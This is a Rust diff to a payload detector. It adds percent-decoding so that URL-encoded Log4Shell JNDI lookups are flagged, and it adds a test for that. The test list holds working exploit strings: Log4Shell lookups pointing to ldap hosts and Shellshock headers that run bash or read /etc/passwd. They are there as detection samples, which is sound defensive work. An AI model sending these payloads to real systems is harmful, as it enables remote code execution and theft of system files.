@@ -103,7 +103,8 @@ pub const SHELLSHOCK: ExploitPayload = ExploitPayload {
 /// (`${lower:j}`, `${::-j}`, `${env:X:-j}`) are resolved to their last
 /// part first, as log4j would.
 pub fn exploit_payload(arg: &str) -> Option<&'static ExploitPayload> {
-    let lower = arg.to_ascii_lowercase();
+    // A URL's query carries it percent-encoded (`%24%7Bjndi%3A...`).
+    let lower = percent_decoded(&arg.to_ascii_lowercase());
     if lower.contains("${") && resolve_lookups(&lower).contains("${jndi:") {
         return Some(&LOG4SHELL);
     }
@@ -115,6 +116,34 @@ pub fn exploit_payload(arg: &str) -> Option<&'static ExploitPayload> {
         matches!(before, None | Some(':' | '=' | '\'' | '"'))
     });
     (opens_value && squeezed.contains("};")).then_some(&SHELLSHOCK)
+}
+
+/// `text` with its `%XX` escapes decoded (bytes that are no UTF-8 kept
+/// as they were written).
+fn percent_decoded(text: &str) -> String {
+    if !text.contains('%') {
+        return text.to_owned();
+    }
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        let hex = bytes
+            .get(i + 1..i + 3)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| u8::from_str_radix(h, 16).ok());
+        match hex {
+            Some(v) if b == b'%' => {
+                out.push(v);
+                i += 3;
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
 }
 
 /// Log4j's nested lookups replaced by what they give: `${lower:j}` is
@@ -234,6 +263,7 @@ mod tests {
             "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
             "User-Agent: () { :; }; /bin/bash -c 'id'",
             "() { :;}; echo; /bin/cat /etc/passwd",
+            "http://t.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
         ] {
             assert!(exploit_payload(p).is_some(), "{p}");
         }
